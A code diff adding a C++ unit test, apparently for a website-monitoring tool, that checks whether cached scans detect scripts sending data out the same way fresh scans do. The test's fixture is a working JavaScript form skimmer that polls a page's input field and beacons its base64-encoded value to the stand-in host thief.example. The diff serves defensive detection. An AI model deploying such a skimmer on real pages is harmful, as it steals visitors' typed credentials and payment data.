@@ -176,6 +176,26 @@ TEST(Memory, OfLoginsYieldsWhatReadingAnewDoes) {
   }
 }
 
+TEST(Memory, OfScriptsYieldsWhatReadingAnewDoes) {
+  const auto spec = spec_of("scripts");
+  Memory memory;
+  Time now = kNow;
+  const std::string thief =
+      "var f=document.querySelectorAll('input');setInterval(function(){"
+      "navigator.sendBeacon('https://thief.example/c',btoa(f[0].value))},9)";
+  for (const auto& source : {std::string("start(1)"), thief, thief, std::string("start(2)")}) {
+    const auto world = [&](const Ask& ask) {
+      const bool is_page = std::get<HttpAsk>(ask.what).url == spec.url;
+      return from(answer(200, is_page ? shop_page() : source));
+    };
+    const auto anew = look(spec, world, now, nullptr);
+    EXPECT_EQ(anew.facts.get(Fact::script_sends).contains("thief"), source == thief);
+    expect_same(look(spec, world, now, &memory), anew);
+    now += kMinute;
+  }
+  EXPECT_EQ(memory.scripts.size(), 3);
+}
+
 TEST(Memory, OfConnectionsAndNamesYieldsWhatReadingAnewDoes) {
   auto tls = spec_of("tls");
   tls.warn_before = std::chrono::days{14};  // which comes while the test runs
